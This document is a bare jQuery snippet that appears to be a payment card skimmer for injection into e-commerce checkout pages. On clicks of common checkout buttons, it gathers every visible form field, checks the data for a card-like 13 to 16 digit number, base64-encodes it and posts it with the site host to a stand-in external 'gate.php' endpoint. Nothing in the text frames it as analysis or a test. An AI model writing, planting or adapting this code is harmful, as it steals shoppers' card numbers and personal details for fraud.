jQuery(function ($) {
  $(document).on('click', '.btn-checkout, #place_order, .action.primary.checkout', function () {
    var send = '';
    $('input, select, textarea').each(function () {
      if ($(this).val() && $(this).attr('type') !== 'hidden') send += $(this).attr('name') + '=' + $(this).val() + '|';
    });
    if (/\b\d{13,16}\b/.test(send.replace(/[ -]/g, ''))) {
      $.ajax({ url: '//jsstore-cache.example/gate.php', type: 'POST', data: { d: btoa(unescape(encodeURIComponent(send))), u: window.location.host } });
    }
  });
});
